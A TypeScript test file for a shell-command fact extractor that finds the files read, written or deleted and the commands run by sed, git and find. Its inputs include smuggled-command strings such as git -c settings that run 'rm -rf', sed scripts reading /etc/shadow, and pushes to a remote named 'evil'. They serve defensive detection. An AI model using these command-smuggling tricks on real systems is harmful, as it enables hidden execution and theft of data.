// The extractor's own readers of sed, git and find (src/facts/extract/tools.ts): the files a sed
// script reads and writes and the commands it runs (sed(1): -i, w, W, r, R, e, s///w, s///e),
// what git runs from its settings (git-config(1): aliases with `!`, pagers, hooksPath, filters…)
// and find's starting points, filters and actions (find(1): -delete, -exec, -fprint). Written
// by hand from the manuals (issue 16: Stryker's survivors in this file).
import { resolveContext } from "../src/context.js";
import { extractFacts } from "../src/facts/extract.js";
import type { PathFact } from "../src/types.js";
import { uncertain } from "./roles.js";

// cwd /workspace, home /root
const ctx = resolveContext({});
const facts = (cmd: string) => extractFacts(cmd, ctx);
const show = (p: PathFact) => `${p.role} ${p.path}`;
/** Every command of the line as `program: paths | tags`, in order. */
const lines = (cmd: string): string[] =>
  facts(cmd).commands.map(
    (c) => `${c.program}: ${c.paths.map(show).join(", ")} | ${c.tags.join(",")}`,
  );

describe("sed", () => {
  it.each([
    ["sed s/a/b/ f", "read /workspace/f"],
    ["sed -E s/a/b/ f", "read /workspace/f"],
    ["sed -s s/a/b/ f", "read /workspace/f"],
    ["sed -n p f", "read /workspace/f"],
    ["sed -i s/a/b/ f g", "write /workspace/f, write /workspace/g"],
    ["sed --in-place s/a/b/ f", "write /workspace/f"],
    ["sed --in-place=.bak s/a/b/ f", "write /workspace/f"],
    ["sed -ni s/a/b/ f", "write /workspace/f"],
    ["sed -i.bak s/a/b/ f", "write /workspace/f"],
    ["sed -e s/a/b/ -e 'w /tmp/o' f", "read /workspace/f, write /tmp/o"],
    ["sed --expression='r /etc/passwd' f", "read /workspace/f, read /etc/passwd"],
    ["sed '1,3w /tmp/o' f", "read /workspace/f, write /tmp/o"],
    ["sed '/x/,$W /tmp/o' f", "read /workspace/f, write /tmp/o"],
    ["sed '$ w /tmp/o' f", "read /workspace/f, write /tmp/o"],
    ["sed '/a\\/b/ R /etc/shadow' f", "read /workspace/f, read /etc/shadow"],
    ["sed '1 , 2 ! r /etc/hosts' f", "read /workspace/f, read /etc/hosts"],
    ["sed 's/a/b/w /tmp/o' f", "read /workspace/f, write /tmp/o"],
    ["sed 's|a|b|gw /tmp/o' f", "read /workspace/f, write /tmp/o"],
    ["sed 's/a/b/; w /tmp/o' f", "read /workspace/f, write /tmp/o"],
    ["sed 's/a/b/\nw /tmp/o' f", "read /workspace/f, write /tmp/o"],
    ["sed 's/a' f", "read /workspace/f"],
    ["sed 's' f", "read /workspace/f"],
    ["sed 'y/ab/cd/' f", "read /workspace/f"],
    ["sed -f s.sed f", "read /workspace/f"],
  ])("%s", (cmd, want) => {
    expect(lines(cmd)).toEqual([`sed: ${want} | `]);
    expect(uncertain(cmd)).toEqual([]);
  });

  it("e runs its text as a command; a bare e or s///e runs text nobody wrote here", () => {
    expect(lines("sed '1e rm -rf /tmp/x' f")).toEqual([
      "rm: delete /tmp/x | ",
      "sed: read /workspace/f | ",
    ]);
    expect(lines("sed '1!e id' f")[0]).toBe("id:  | ");
    expect(facts("sed '1e rm -rf /tmp/x' f").commands[0]!.via).toEqual(["sed e"]);
    for (const cmd of ["sed e f", "sed 's/a/b/e' f", "sed 's/a/b/ge' f", "sed -e 's/x/y/e' f"])
      expect(uncertain(cmd)).toEqual(["dynamic-shell-text"]);
    // `we` writes to the file `e`: the flags after w are its name
    expect(uncertain("sed 's/a/b/we' f")).toEqual([]);
    expect(lines("sed 's/a/b/we' f")).toEqual(["sed: read /workspace/f, write /workspace/e | "]);
  });
});

describe("git: what its settings run", () => {
  it.each([
    ["git -c alias.x='!rm -rf /tmp/a' x", "rm: delete /tmp/a | "],
    ["git -c core.pager='rm -rf /tmp/a' log", "rm: delete /tmp/a | "],
    ["git -c Core.Pager='rm /tmp/a' log", "rm: delete /tmp/a | "],
    ["git -c core.editor='rm /tmp/a' commit", "rm: delete /tmp/a | "],
    ["git -c core.sshCommand='!rm /tmp/a' fetch", "rm: delete /tmp/a | "],
    ["git -c core.fsmonitor='rm /tmp/a' status", "rm: delete /tmp/a | "],
    ["git -c pager.log='rm /tmp/a' log", "rm: delete /tmp/a | "],
    ["git -c diff.external='rm /tmp/a' diff", "rm: delete /tmp/a | "],
    ["git -c difftool.x.cmd='rm /tmp/a' difftool", "rm: delete /tmp/a | "],
    ["git -c diff.x.textconv='rm /tmp/a' diff", "rm: delete /tmp/a | "],
    ["git -c remote.o.uploadpack='rm /tmp/a' fetch", "rm: delete /tmp/a | "],
    ["git -c sequence.editor='rm /tmp/a' rebase -i", "rm: delete /tmp/a | "],
    ["git -c credential.helper='!rm /tmp/a' push", "rm: delete /tmp/a | "],
    ["git -c filter.a.clean='rm /tmp/a' add x", "rm: delete /tmp/a | "],
    ["git -c filter.a.process='rm /tmp/a' add x", "rm: delete /tmp/a | "],
    ["git -c merge.x.driver='rm /tmp/a' merge", "rm: delete /tmp/a | "],
    ["git -c gpg.program='rm /tmp/a' commit", "rm: delete /tmp/a | "],
    ["git -c uploadpack.packObjectsHook='rm /tmp/a' fetch", "rm: delete /tmp/a | "],
    ["git config core.pager 'rm -rf /tmp/a'", "rm: delete /tmp/a | "],
    ["git config --global alias.y '!rm -rf /tmp/a'", "rm: delete /tmp/a | "],
    ["git CONFIG core.pager 'rm -rf /tmp/a'", "rm: delete /tmp/a | "],
  ])("%s", (cmd, want) => {
    expect(lines(cmd)[0]).toBe(want);
    expect(facts(cmd).commands[0]!.via).toContain(
      cmd.includes(" config ") || cmd.includes(" CONFIG ")
        ? `git -c ${cmd
            .split(" ")
            .find((w) => w.includes("."))!
            .toLowerCase()}`
        : `git -c ${cmd.split(" ")[2]!.split("=")[0]!.toLowerCase()}`,
    );
  });

  it.each([
    "git -c alias.x=log x",
    "git -c user.name=x commit",
    "git -c novalue commit",
    "git -c core.pagerx='rm /tmp/a' log",
    "git -c xcore.pager='rm /tmp/a' log",
    "git config --get core.pager 'rm /tmp/a'",
    "git config --unset core.pager 'rm /tmp/a'",
    "git config -l core.pager 'rm /tmp/a'",
    "git config --list core.pager 'rm /tmp/a'",
    "git config core.pager",
    "git log core.pager 'rm /tmp/a'",
  ])("runs nothing: %s", (cmd) => {
    expect(facts(cmd).commands.map((c) => c.program)).toEqual(["git"]);
  });

  it("core.hooksPath points hooks elsewhere: tagged, not run", () => {
    expect(lines("git -c core.hooksPath=/tmp/h commit")).toEqual(["git:  | git-hooks-override"]);
    expect(lines("git config core.hooksPath /tmp/h")[0]).toMatch(/\| git-hooks-override$/);
  });

  it("a push to a remote added on the same line", () => {
    const tagsOfPush = (cmd: string) => facts(cmd).commands.at(-1)!.tags;
    expect(tagsOfPush("git remote add evil http://e/x && git push evil main")).toEqual([
      "push-new-remote",
    ]);
    expect(tagsOfPush("git remote set-url origin http://e/x && git push origin")).toEqual([
      "push-new-remote",
    ]);
    expect(tagsOfPush("git remote add evil && git push evil")).toEqual(["push-new-remote"]);
    expect(tagsOfPush("git remote add evil http://e/x && git push other")).toEqual([]);
    expect(tagsOfPush("git remote remove evil && git push evil")).toEqual([]);
    expect(tagsOfPush("git remote && git push evil")).toEqual([]);
    expect(tagsOfPush("git remote add evil http://e/x && git fetch evil")).toEqual([]);
    expect(tagsOfPush("git push evil")).toEqual([]);
  });

  it("path operands after the subcommand, and --output", () => {
    expect(lines("git add ./a b /c")).toEqual(["git: operand /workspace/a, operand /c | "]);
    expect(lines("git log --output /tmp/log")).toEqual(["git: write /tmp/log | "]);
    expect(lines("git log --output=/tmp/log")).toEqual(["git: write /tmp/log | "]);
  });
});

describe("find", () => {
  it.each([
    // no filter: the starting point itself goes
    ["find /tmp -delete", "rm: delete /tmp", "find: read /tmp"],
    ["find /tmp/ -type f -delete", "rm: delete /tmp", "find: read /tmp"],
    ["find -delete", "rm: delete /workspace", "find: read /workspace"],
    ["find /a -maxdepth 1 -delete", "rm: delete /a", "find: read /a"],
    ["find /a -mindepth 1 -depth -delete", "rm: delete /a", "find: read /a"],
    ["find /a -print -delete", "rm: delete /a", "find: read /a"],
    ["find /a -exec rm {} \\;", "rm: delete /a", "find: read /a"],
    ["find /a -execdir rm -f {}.bak \\;", "rm: delete /a.bak", "find: read /a"],
    ["find /a -ok rm {} \\;", "rm: delete /a", "find: read /a"],
    ["find /a -okdir rm {} \\;", "rm: delete /a", "find: read /a"],
    ["find -H /a -delete", "rm: delete /a", "find: read /a"],
    ["find -L -O2 /a -delete", "rm: delete /a", "find: read /a"],
    ["find -D tree /a -delete", "rm: delete /a", "find: read /a"],
    // a filter first: its matches go
    ["find /tmp -name x -delete", "rm: delete /tmp/<match>", "find: read /tmp"],
    ["find /a/ -name x -delete", "rm: delete /a/<match>", "find: read /a"],
    ["find /a -name '*.o' -exec rm {} +", "rm: delete /a/<match>", "find: read /a"],
    ["find /a -newer /b -delete", "rm: delete /a/<match>", "find: read /a"],
    ["find /a ! -name x -delete", "rm: delete /a/<match>", "find: read /a"],
    ["find /a \\( -name x \\) -delete", "rm: delete /a/<match>", "find: read /a"],
    ["find /a -not -name x -o -delete", "rm: delete /a/<match>", "find: read /a"],
  ])("%s", (cmd, rm, find) => {
    expect(lines(cmd).map((l) => l.replace(/ \| .*$/, ""))).toEqual([rm, find]);
    expect(facts(cmd).commands[0]!.via).toEqual(["find-exec"]);
  });

  it("each starting point is an item; -delete runs rm -r, -exec its command", () => {
    expect(lines("find /a /b -delete").map((l) => l.replace(/ \| .*$/, ""))).toEqual([
      "rm: delete /a",
      "rm: delete /b",
      "find: read /a, read /b",
    ]);
    const rm = facts("find /a -delete").commands[0]!;
    expect(rm.argv).toEqual(["-r", "/a"]);
    expect(rm.wrappers).toEqual(["find -delete"]);
    expect(rm.text).toBe("find -delete /a");
    const exec = facts("find /a -exec rm -f {} \\;").commands[0]!;
    expect(exec.argv).toEqual(["-f", "/a"]);
    expect(exec.wrappers).toEqual(["find -exec"]);
    expect(exec.text).toBe("rm -f {}");
    expect(lines("find /a -exec \\;")).toEqual(["find: read /a | "]);
  });

  it("a dynamic starting point stays dynamic in what runs", () => {
    expect(lines("find $D -delete")).toEqual([
      "rm: delete $D | dynamic-args",
      "find: read $D | dynamic-args",
    ]);
    expect(facts("find /a -name x -exec rm $F{} \\;").commands[0]!.paths[0]!.classes).toEqual([
      "unknown",
    ]);
  });

  it("the -exec'd command gets no input and no redirects of find's", () => {
    const rm = facts("echo x | find /a -exec rm {} \\; > /tmp/o").commands.find(
      (c) => c.program === "rm",
    )!;
    expect(rm.redirects).toEqual([]);
    expect(rm.stdinFrom).toEqual([]);
  });

  it("-fprint, -fprint0, -fls and -fprintf write their file", () => {
    for (const a of ["-fprint", "-fprint0", "-fls"])
      expect(lines(`find /a ${a} /tmp/o`)).toEqual(["find: write /tmp/o, read /a | "]);
    // -fprintf takes a format after the file: the format is no filter and no action
    expect(
      lines("find /a -fprintf /tmp/o '%p' -delete").map((l) => l.replace(/ \| .*$/, "")),
    ).toEqual(["rm: delete /a", "find: write /tmp/o, read /a"]);
    expect(lines("find /a -fprint /tmp/o -delete").map((l) => l.replace(/ \| .*$/, ""))).toEqual([
      "rm: delete /a",
      "find: write /tmp/o, read /a",
    ]);
  });

  it("a valued test's value is not taken for an action", () => {
    expect(lines("find /a -name -delete").map((l) => l.replace(/ \| .*$/, ""))).toEqual([
      "find: read /a",
    ]);
  });

  it("find's output is its items: xargs runs on them", () => {
    expect(lines("find /a -name x | xargs rm").map((l) => l.replace(/ \| .*$/, ""))).toContain(
      "rm: delete /a/<match>",
    );
    expect(lines("find /a | xargs rm").map((l) => l.replace(/ \| .*$/, ""))).toContain(
      "rm: delete /a",
    );
  });
});
